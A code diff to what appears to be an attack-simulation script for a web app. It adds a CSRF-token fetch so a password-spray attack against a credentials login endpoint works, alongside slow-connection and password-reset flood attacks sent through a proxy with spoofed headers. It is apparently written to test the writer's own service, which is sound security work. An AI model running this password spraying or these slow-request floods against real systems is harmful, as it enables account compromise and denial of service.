@@ -132,8 +132,21 @@ function heavyCall(): Asked {
 const view = (key: string) => JSON.stringify({ t: 'view', k: key, u: `https://shop.example/${next()}` })
 const browser = { 'user-agent': 'Mozilla/5.0 Chrome/140.0' }
 
+/** Without it no password is looked at. */
+async function csrf(): Promise<{ csrfToken: string; cookie: string }> {
+  const answer = await fetch(`${url}/api/auth/csrf`)
+  const { csrfToken } = await answer.json()
+  return {
+    csrfToken,
+    cookie: answer.headers
+      .getSetCookie()
+      .map((each) => each.split(';')[0])
+      .join('; '),
+  }
+}
+
 /** Each goes on by itself, for ever. */
-const attacks: Record<string, () => void> = {
+const attacks: Record<string, () => void | Promise<void>> = {
   'slow heads': () =>
     keepOpen(450, one, (socket) => {
       socket.write('GET /api/setup/status HTTP/1.1\r\nHost: x\r\n')
@@ -176,16 +189,23 @@ const attacks: Record<string, () => void> = {
       }),
       proxy,
     ),
-  'a spray of passwords': () =>
+  'a spray of passwords': async () => {
+    const { csrfToken, cookie } = await csrf()
     ask(
       50,
       () => ({
         path: '/api/auth/callback/credentials',
-        body: JSON.stringify({ email: `${next()}@rapport.test`, password: 'password', json: true }),
-        headers: elsewhere(),
+        body: JSON.stringify({
+          email: `${next()}@rapport.test`,
+          password: 'password',
+          csrfToken,
+          json: 'true',
+        }),
+        headers: { ...elsewhere(), cookie },
       }),
       proxy,
-    ),
+    )
+  },
   'forgotten passwords': () =>
     ask(
       50,
@@ -208,5 +228,5 @@ const attacks: Record<string, () => void> = {
     }),
 }
 
-if (name) attacks[name]?.()
+if (name) await attacks[name]?.()
 else console.log(JSON.stringify(Object.keys(attacks)))
